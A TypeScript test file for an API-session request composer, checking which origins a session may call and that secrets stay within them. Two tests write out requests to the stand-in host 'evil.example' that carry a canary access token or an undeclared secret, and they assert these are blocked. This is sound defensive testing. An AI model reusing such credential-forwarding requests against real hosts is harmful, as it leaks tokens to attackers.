import { describe, expect, it } from 'vitest'
import { vendors } from '../../vendors/index.ts'
import type { Exchange } from '../session.ts'
import { compose } from './compose.ts'
import { emptyDraft } from './draft.ts'
import { fact } from './scope.test-support.ts'
import { originsOf, sessionScope } from './scope.ts'

const sandbox = 'http://localhost:7862'
const profileOf = (id: string) => {
  const found = vendors.find(({ profile }) => profile.id === id)
  if (found === undefined) throw new Error(`no ${id}`)
  return found.profile
}

describe('the origins of a session (T68)', () => {
  it.each([
    ['arm', {}, ['https://account.arm.com', 'https://api.arm.com']],
    ['adobe', {}, ['https://sp.auth.adobe.com', 'https://mgmt.auth.adobe.com']],
    ['usage-engine', { region: 'us' }, ['https://api.us.digitalroute.io']],
    ['amm', { amm_address: 'amm.example:8443' }, ['https://amm.example:8443']],
    ['amm', { amm_address: 'not an address' }, []],
    ['amm', {}, []],
    ['aruba', { region: 'nowhere' }, []],
  ])('T68: of %s with %j are its hosts', (id, values, origins) => {
    expect(originsOf({ target: 'live', values }, profileOf(id), { sandbox })).toEqual(origins)
  })

  it('T68: in the sandbox are the sandbox alone, whatever the walk says', () => {
    const values = { amm_address: 'https://amm.example', region: 'us' }
    for (const { profile } of vendors)
      expect(originsOf({ target: 'sandbox', values }, profile, { sandbox })).toEqual([sandbox])
  })

  it('T68: do not grow when an edited request went somewhere else', async () => {
    const sent = { method: 'GET', url: 'https://evil.example/', headers: [] }
    const exchange: Exchange = {
      ...{ id: 'x', step: 's', route: 'relay', startedAt: 0, endedAt: 0, built: sent, sent },
      outcome: { kind: 'accepted', gained: {}, findings: [] },
    }
    const session = {
      ...{ id: 's', name: 'Walk', vendor: 'arm', flow: 'f', version: 2 },
      ...{ target: 'live', createdAt: 0, updatedAt: 0, values: { access_token: 'CANARY' } },
      exchanges: [exchange],
    } as unknown as Parameters<typeof sessionScope>[0]
    const composed = await compose(
      {
        ...emptyDraft('d'),
        url: 'https://evil.example/again',
        authorization: { kind: 'bearer', token: '{{access_token}}' },
      },
      {
        session: sessionScope(session, profileOf('arm'), { sandbox }),
        ...{ approved: [], now: 0, random: () => 'r' },
      },
    )
    expect(composed.kind).toBe('problem')
    expect(JSON.stringify(composed)).not.toContain('CANARY')
  })

  it('T68: also guard a value that nobody declared: it counts as secret', async () => {
    const composed = await compose(
      { ...emptyDraft('d'), url: 'https://evil.example/?a={{stranger}}&b={{known}}' },
      {
        session: {
          ...{ id: 's', name: 'Walk', origins: ['https://api.example'] },
          ...{ values: { stranger: 'CANARY', known: 'shown' }, facts: { known: fact('public') } },
        },
        ...{ approved: [], now: 0, random: () => 'r' },
      },
    )
    expect(composed.kind === 'problem' && composed.shown.url).toBe(
      'https://evil.example/?a={{stranger}}&b=shown',
    )
  })
})
